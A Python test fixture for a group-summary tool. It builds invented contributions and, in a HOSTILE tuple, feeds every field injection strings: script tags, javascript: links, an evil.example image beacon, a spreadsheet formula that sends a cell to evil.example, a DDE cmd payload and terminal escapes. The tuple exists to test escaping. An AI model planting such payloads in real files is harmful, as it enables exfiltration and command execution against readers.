"""A small invented group with one of everything a summary can hold, and what must never leave it."""

from __future__ import annotations

import hashlib
from dataclasses import replace

from reflect.models import Prompt
from reflect.store.groups import CodebookChange, Coding, Gathered
from reflect.summary import together
from reflect.summary.together import Agreed, GroupSummary, Material, Wanted

THEMES = (("funding", "Funding"), ("voice", "Voice"), ("learning", "Learning"), ("change", "Change"))
QUESTION = Prompt(
    id="who-waits",
    text="Who waited?",
    group_text="Who waited, and for what?",
    parts=("Who waited, and for what?",),
    document="",
    title="",
    heading="",
    rows=(),
    form="own",
    theme="funding",
    also_themes=(),
    occasions=("group-session",),
    depth="working",
    context="",
    flags=(),
    near="",
    suits=("one", "group"),
    care="",
    pack="own",
)
AGREED = Agreed(
    name="Canal partners",
    purpose="to hear each other",
    audience="the partners",
    keeper="Dilys",
    responder="Priya",
    respond_by="2026-12-15",
    cost="",
    fewest=5,
    sites=("North", "South"),
    glossary={"INT": "Integrated Neighbourhood Team", "ABC": "nowhere in the words"},
)
WANTED = Wanted(
    since="2026-07-01", until="2026-09-30", period="July to September 2026", not_heard_from="the night staff"
)
COMMENT_BY = "2026-12-01"
CHANGES = (CodebookChange("change", "renamed", "How change happens", "", "Dilys", "clearer", "2026-09-01T09:13:27"),)


def contributor(person: int) -> str:
    """Return a person's id in the group, which no form may hold."""
    return hashlib.md5(f"contributor {person}".encode(), usedforsecurity=False).hexdigest()


def contribution(number: int) -> str:
    """Return a contribution's id."""
    return hashlib.md5(f"contribution {number}".encode(), usedforsecurity=False).hexdigest()


def gathered(number: int, person: int, words: str, *themes: str, **said: object) -> Gathered:
    """Return one contribution, as a group holds it."""
    plain = Gathered(
        id=contribution(number),
        contributor=contributor(person),
        site="North" if person % 2 else "South",
        audience="group",
        level="verbatim",
        words=words,
        themes=themes,
        prompt="",
        asked="",
        occasion="after-meeting",
        week="2026-W33",
        stance="",
        leads_to="",
        alone_ok=False,
        attribution="",
    )
    return replace(plain, **said)  # type: ignore[arg-type]


def contributions() -> list[Gathered]:
    """Return what eleven people shared in the summer, and what they shared in the spring."""
    found = [
        gathered(
            person,
            person,
            f"Number {person} paid the bus fares out of a purse, and the INT did not ask who could do so.",
            "funding",
            attribution="a neighbour" if person == 0 else "",
            leads_to="bus fares paid on the day" if person == 1 else "",
        )
        for person in range(6)
    ]
    found += [
        gathered(
            20, 6, "We have a pot of money without a form since June, and it is spent well.", "funding", stance="gain"
        ),
        gathered(
            21, 7, "We lost the worker who knew every door on the estate, and nobody said so.", "funding", stance="loss"
        ),
        gathered(22, 8, "I like the form. It treats us all the same, whoever we know.", "funding", stance="differs"),
        gathered(
            23, 9, "My own words were put in another way here, and I agreed.", "funding", "voice", level="reworded"
        ),
        gathered(24, 10, "I offered an excuse where I could have offered a question.", "learning", alone_ok=True),
        gathered(25, 9, "Nobody may read this sentence, since too few wrote about it.", "learning"),
        gathered(26, 4, "The printer was out of paper all the week, as it is every week.", alone_ok=True),
    ]
    found += [gathered(30 + each, each, f"They asked me, and waited, meeting {each}.", "voice") for each in range(5)]
    found += [
        gathered(50 + each, each, f"In spring the fares were on the table as well, {each}.", "funding", week="2026-W20")
        for each in range(5)
    ]
    return found


def summary(
    wanted: Wanted = WANTED,
    *,
    standing: list[Gathered] | None = None,
    objections: tuple[str, ...] = (),
    kind: str = "draft",
    **agreed: object,
) -> GroupSummary:
    """Return the group's draft summary, of other contributions or another agreement where given."""
    material = Material(
        contributions=contributions() if standing is None else standing,
        people={},
        codings=[
            Coding(contribution(20), "voice", removed=False, memo="it tells who decides", at="2026-10-01T09:14:28")
        ],
        changes=CHANGES,
        themes=THEMES,
        prompts=[QUESTION],
        earlier=(),
        objections=objections or ("You left out the buses in the evening.",),
    )
    made = together.roll_up(replace(AGREED, **agreed), material, wanted)  # type: ignore[arg-type]
    return replace(made, kind=kind, comment_by=COMMENT_BY if kind == "draft" else "")


def of_four() -> GroupSummary:
    """Return the final summary of four people, so that all of it is in the protected form."""
    return summary(
        kind="final",
        standing=[
            gathered(each, each, f"We were four, and this is what number {each} wrote.", "funding", alone_ok=each < 2)
            for each in range(4)
        ],
    )


def of_theme_marks() -> GroupSummary:
    """Return the summary of people who let their themes be counted and no word be read."""
    themes = [gathered(each, each, "", "funding", level="theme") for each in range(6)]
    return summary(standing=themes, kind="made")


HOSTILE = (
    "<script>alert(1)</script> said the slide, and we all read it out.",
    '=HYPERLINK("http://evil.example/?x="&A1,"click") stood in the form that we were sent.',
    "![dot](http://evil.example/p.png) <img src=http://evil.example/p.png onerror=alert(1)> stood there.",
    '[here](javascript:alert(1)) <a href="javascript:alert(1)">here</a> is what we were given to read.',
    "\x1b[31mred\x1b[0m and \x07 a bell and \x00 nothing, and \ufffe\uffff what no file holds.",
    "turned \u202eback\u202c and \u2066kept\u2069 by whoever wrote the minutes of it.",
    "{{ 7 * 7 }} {% raw %} ${x} & ]]> '\" \\ said the form, which nobody could fill in.",
    "+441632960000 is the number we were to ring, and no one was ever there.",
    "@SUM(1+1)*cmd|' /C calc'!A0 was in the cell, and so we left it there.",
    "\uff1d1+1 in wide signs was in the cell, and so we left that there, too.",
    "-2 was the balance that we were told of, and we were not told of what.",
)
"""What people might write, or be made to write."""


def hostile() -> GroupSummary:
    """Return a summary whose every field holds what a browser, a spreadsheet or a terminal might obey."""
    bad = HOSTILE[0] + " " + HOSTILE[1] + " \x1b[2J {{ 7 * 7 }}"
    made = summary(
        standing=[
            gathered(each, each, words, "funding", stance="differs", attribution=bad, leads_to=bad)
            for each, words in enumerate(HOSTILE)
        ],
        objections=(bad, *HOSTILE),
        name=bad,
        purpose=bad,
        audience=bad,
        responder=bad,
        keeper=bad,
        cost=bad,
        glossary={"red": bad},
    )
    themes = tuple(replace(theme, name=bad, memos=(bad,), words=(bad,)) for theme in made.themes)
    wanted = replace(made.wanted, not_heard_from=bad, period=bad)
    return replace(made, themes=themes, wanted=wanted, codebook_changes=(bad,))
